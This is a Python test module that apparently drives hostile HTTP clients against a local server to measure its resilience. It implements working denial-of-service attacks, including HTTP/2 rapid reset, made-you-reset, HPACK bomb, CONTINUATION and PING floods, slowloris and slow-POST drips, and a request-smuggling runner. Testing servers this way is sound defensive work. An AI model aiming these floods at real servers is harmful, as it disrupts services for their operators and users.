"""What hostile HTTP clients do: one function for each attack, on one connection.

Each runs until the server ends the connection. By themselves, for the measurements of
tests/attack: attacks.py PORT NAME[,NAME]... SECONDS [SOURCE [CONNECTIONS]] attacks again and again,
by so many connections for each name.
"""
import itertools
import select
import socket
import ssl
import struct
import sys
import threading
import time

import http_client as http
from http_client import (ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE,
                         RST_STREAM, SETTINGS, WINDOW_UPDATE)
from tls_attacks import TLS_AGAIN, TLS_FLOODS, TLS_SLOW

PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 0x55
CALM = 11  # ENHANCE_YOUR_CALM

GET = b"\x82\x86\x84\x41\x01a"  # GET, http, /, and an authority
POST = b"\x83\x86\x84\x41\x01a"
frame = http.Http2.frame


def path_field(path):
    return b"\x04" + bytes([len(path)]) + path.encode()


def wait(sock, what, seconds):
    """Which of the events has come, if any."""
    poll = select.poll()
    poll.register(sock, what)
    events = dict(poll.poll(max(0, seconds) * 1000)).get(sock.fileno(), 0)
    return events | what if events & ~(select.POLLIN | select.POLLOUT) else events


class Connection:
    """Sends as much as the server takes, and reads what it says, if told to."""

    def __init__(self, port, source=None, tls=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=60,
                                             source_address=(source, 0) if source else None)
        if tls:
            self.sock = tls.wrap_socket(self.sock, server_hostname="localhost")
        self.sent = self.got = 0
        self.answer = b""  # the last of it
        self.ended = False
        self.until = float("inf")  # finish waits no longer

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.sock.close()

    def hello(self, settings=b""):
        self.push(PREFACE + frame(SETTINGS, 0, 0, settings))
        return self

    def take(self):
        """Reads once what is there."""
        try:
            data = self.sock.recv(1 << 16)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except OSError:
            data = b""
        self.ended |= not data
        self.got += len(data)
        self.answer = (self.answer + data)[-(1 << 14):]

    def push(self, data, read=True, until=None):
        """False when the server has ended it, or at the time `until`."""
        self.sock.setblocking(False)
        view = memoryview(data)
        while view and not self.ended:
            left = 60 if until is None else until - time.monotonic()
            if left <= 0:
                return False
            ready = wait(self.sock, select.POLLOUT | (select.POLLIN if read else 0), left)
            if ready & select.POLLIN:
                self.take()
            if ready & select.POLLOUT and not self.ended:
                try:
                    n = self.sock.send(view)
                    self.sent += n
                    view = view[n:]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    pass
                except OSError:
                    self.finish()
        return not self.ended

    def finish(self, seconds=60):
        """Reads until the server ends it; False when it does not."""
        end = min(time.monotonic() + seconds, self.until)
        self.sock.setblocking(False)
        while not self.ended and time.monotonic() < end:
            if wait(self.sock, select.POLLIN, end - time.monotonic()):
                self.take()
        return self.ended

    def goaway(self):
        """The error code of a GOAWAY in what was read last, or None."""
        at = self.answer.rfind(struct.pack(">IBBI", 8, GOAWAY, 0, 0)[1:])
        if at < 0:
            for extra in range(1, 100):
                at = self.answer.rfind(struct.pack(">IBBI", 8 + extra, GOAWAY, 0, 0)[1:])
                if at >= 0:
                    break
        return struct.unpack(">I", self.answer[at + 13:at + 17])[0] if at >= 0 else None


def flood(connection, chunk, until=None, read=True):
    while connection.push(chunk() if callable(chunk) else chunk, read, until):
        pass


class Streams:
    """Numbers of new streams."""

    def __init__(self):
        self.next = -1

    def __call__(self):
        self.next += 2
        return self.next


def per_stream(make, count=500):
    """Frames on new streams, of which a connection has so many at a time."""
    def attack(connection, until=None):
        stream = Streams()
        connection.hello()
        flood(connection, lambda: b"".join(make(stream()) for _ in range(count)), until)
    return attack


def frames(data, before=b"", read=True):
    def attack(connection, until=None):
        connection.hello()
        connection.push(before)
        flood(connection, data, until, read)
    return attack


def hpack_bomb(connection, until=None):
    """A field of 4,000 bytes in the table, then thousands of references of one byte."""
    connection.hello()
    entry = b"\x40\x01x" + b"\x7f\x81\x1e" + b"y" * 3968
    stream = Streams()
    connection.push(frame(HEADERS, END_HEADERS, stream(), POST + entry))

    def bomb():
        return frame(HEADERS, END_HEADERS, stream(), POST + b"\xbe" * 16000)
    flood(connection, bomb, until)


def unfinished_bodies(connection, until=None):
    """Bodies that fit, on as many streams as there may be; none ends."""
    connection.hello()
    connection.finish(0.2)
    for stream in range(1, 200, 2):
        connection.push(frame(HEADERS, END_HEADERS, stream, POST), until=until)
        for _ in range(62):
            if not connection.push(frame(DATA, 0, stream, b"x" * 16384), until=until):
                return
    connection.finish()


def zero_window(connection, until=None):
    """Answers that may not be sent."""
    connection.hello(struct.pack(">HI", 4, 0))
    for stream in range(1, 200, 2):
        connection.push(frame(HEADERS, END_HEADERS | END_STREAM, stream,
                              b"\x82\x86\x41\x01a" + path_field("/100k")), until=until)
    connection.finish(30 if until is None else max(0, until - time.monotonic()))


def no_reading(connection, until=None):
    """HTTP/1.1: many requests for much, and nothing is read."""
    connection.push(b"GET /5m HTTP/1.1\r\nHost: a\r\n\r\n" * 200, read=False, until=until)
    time.sleep(8 if until is None else max(0, until - time.monotonic()))
    connection.finish()
    assert connection.got < 100 << 20, "it was answered all the same"


def drip(head, piece, pause=0.05):
    """A head at once, then a little at a time."""
    def attack(connection, until=None):
        until = until or time.monotonic() + 30
        connection.push(head)
        while time.monotonic() < until and connection.push(piece, until=until) and \
                not connection.finish(pause):
            pass
    return attack


def priority_tree(connection, until=None):
    """Streams that depend on each other, anew with every frame."""
    connection.hello()
    connection.push(b"".join(frame(HEADERS, END_HEADERS, s, POST) for s in range(1, 60, 2)))
    flood(connection, b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", 0x80000000 | on, 255))
                               for on in range(1, 60, 2) for s in range(1, 60, 2) if s != on), until)


def large_bodies(connection, until=None):
    """Each is answered 413, and goes on."""
    stream = Streams()
    connection.hello()

    def body():
        s = stream()
        return frame(HEADERS, END_HEADERS, s, POST) + frame(DATA, 0, s, b"x" * 16384) * 128
    flood(connection, body, until)


def unfinished_heads(connection, until=None, count=1500):
    """On many connections, each within the limit."""
    port, source = connection.sock.getpeername()[1], connection.sock.getsockname()[0]
    head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: %s\r\n" % (b"y" * 1000) * 31
    kept = []
    try:
        for _ in range(count):
            if until and time.monotonic() > until:
                break
            kept.append(socket.create_connection(("127.0.0.1", port), 60, (source, 0)))
            kept[-1].sendall(head)
        connection.push(head, until=until)
        connection.finish(30 if until is None else max(0, until - time.monotonic()))
    finally:
        for sock in kept:
            sock.close()


def wedge(connection, until=None):
    """A header block that goes on when the server says that it ends, beside a stream that stays."""
    connection.hello(struct.pack(">HI", 4, 0))
    connection.push(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                          b"\x82\x86\x41\x01a" + path_field("/100k")) +
                    frame(HEADERS, END_STREAM, 3, GET))
    while connection.goaway() is None and not connection.finish(0.05) and (
            until is None or time.monotonic() < until):
        pass
    connection.push(frame(CONTINUATION, END_HEADERS, 3), until=until)
    connection.finish()


def one_request(connection, until=None):
    connection.push(b"GET /1k HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", until=until)
    connection.finish(5)


turn = itertools.count()


def smuggling(connection, until=None):
    """All of the matrix, one after the other."""
    import test_smuggling  # which needs pytest
    cases = list(test_smuggling.REFUSED.values())
    connection.push(cases[next(turn) % len(cases)] + test_smuggling.BEHIND, until=until)
    connection.finish(5)


HELLO = PREFACE + frame(SETTINGS, 0, 0)
OPEN_BLOCK = frame(HEADERS, END_STREAM, 1, GET)

FLOODS = {
    "rapid-reset": per_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, GET) +
                              frame(RST_STREAM, 0, s, struct.pack(">I", 8))),
    "rapid-reset-open": per_stream(lambda s: frame(HEADERS, END_HEADERS, s, POST) +
                                   frame(RST_STREAM, 0, s, struct.pack(">I", 8))),
    "made-you-reset": per_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, GET) +
                                 frame(WINDOW_UPDATE, 0, s, bytes(4))),
    "made-you-reset-overflow": per_stream(
        lambda s: frame(HEADERS, END_HEADERS, s, POST) +
        frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff")),
    "made-you-reset-data": per_stream(
        lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, GET) + frame(DATA, 0, s, b"x")),
    "bad-requests": per_stream(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x82")),
    "ping": frames(frame(PING, 0, 0, bytes(8)) * 2000),
    "settings": frames(frame(SETTINGS, 0, 0) * 2000),
    "ping-unread": frames(frame(PING, 0, 0, bytes(8)) * 2000, read=False),
    "settings-unread": frames(frame(SETTINGS, 0, 0) * 2000, read=False),
    "goaway": frames(frame(GOAWAY, 0, 0, bytes(8)) * 2000),
    "continuation-empty": frames(frame(CONTINUATION, 0, 1) * 2000, OPEN_BLOCK),
    "continuation-16k": frames(frame(CONTINUATION, 0, 1, b"\x10\x01x\x01y" * 3276), OPEN_BLOCK),
    "data-empty": frames(frame(DATA, 0, 1) * 2000, frame(HEADERS, END_HEADERS, 1, POST)),
    "data-1": frames(frame(DATA, 0, 1, b"x") * 2000, frame(HEADERS, END_HEADERS, 1, POST)),
    "window-update": frames(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2000),
    "unknown-type": frames(frame(UNKNOWN, 0, 0, b"x" * 8) * 2000),
    "priority": frames(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7)) * 2000,
                       frame(HEADERS, END_HEADERS, 1, POST)),
    "hpack-bomb": hpack_bomb,
    "unfinished-bodies": unfinished_bodies,
    "priority-tree": priority_tree,
    "large-bodies": large_bodies,
    "head-without-end": lambda connection, until=None: flood(
        connection, b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 1000, until),
}
SLOW = {
    "zero-window": zero_window,
    "no-reading": no_reading,
    "slow-loris": drip(b"GET / HTTP/1.1\r\nHost: a\r\n", b"x: y\r\n"),
    "slow-post-1": drip(b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", b"x"),
    "slow-chunks": drip(b"POST /echo HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
                        b"1\r\nx\r\n"),
    "slow-post-2": drip(HELLO + frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1, b"x")),
    "slow-data-frame": drip(HELLO + frame(HEADERS, END_HEADERS, 1, POST) +
                            frame(DATA, 0, 1, b"x" * 16000)[:20], b"x"),
    "slow-frame": drip(HELLO + frame(PING, 0, 0, bytes(8))[:9], b"", 0.05),
    "slow-continuation": drip(HELLO + OPEN_BLOCK, frame(CONTINUATION, 0, 1, b"\x10\x01x\x01y"), 0.2),
    "silent": drip(b"", b""),
    "part-of-a-preface": drip(PREFACE[:10], b""),
    "idle": drip(HELLO, b""),
    "idle-http1": drip(b"GET /1k HTTP/1.1\r\nHost: a\r\n\r\n", b""),
}
# By many connections, or again and again; on one they do no harm.
AGAIN = {
    "reconnect": one_request,
    "smuggling": smuggling,
    "unfinished-heads": unfinished_heads,
    "wedge": wedge,
}
ATTACKS = {**FLOODS, **SLOW, **AGAIN}
TLS_ATTACKS = {**TLS_FLOODS, **TLS_SLOW, **TLS_AGAIN}


ALL = {**ATTACKS, **TLS_ATTACKS}


def attack_again(port, name, until, source, counts):
    while time.monotonic() < until:
        try:
            with Connection(port, source) as connection:
                connection.until = until
                ALL[name](connection, until)
                counts[0] += 1
                counts[1] += connection.ended and connection.got == 0
                counts[2] += connection.sent
                counts[3] += connection.ended
        except ConnectionRefusedError:
            return  # it has ended
        except OSError:
            counts[0] += 1
            counts[1] += 1
            counts[3] += 1


def main():
    port, names, seconds = int(sys.argv[1]), sys.argv[2].split(","), float(sys.argv[3])
    source = sys.argv[4] if len(sys.argv) > 4 else None
    each = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    until = time.monotonic() + seconds
    counts = [[0, 0, 0, 0] for _ in range(each * len(names))]
    started = [threading.Thread(target=attack_again, args=(port, name, until, source, c))
               for name, c in zip(names * each, counts)]
    for thread in started:
        thread.start()
    for thread in started:
        thread.join()
    connections, refused, sent, ended = map(sum, zip(*counts))
    print(f"{connections} connections, {refused} refused, {sent} bytes, {ended} ended")


if __name__ == "__main__":
    main()
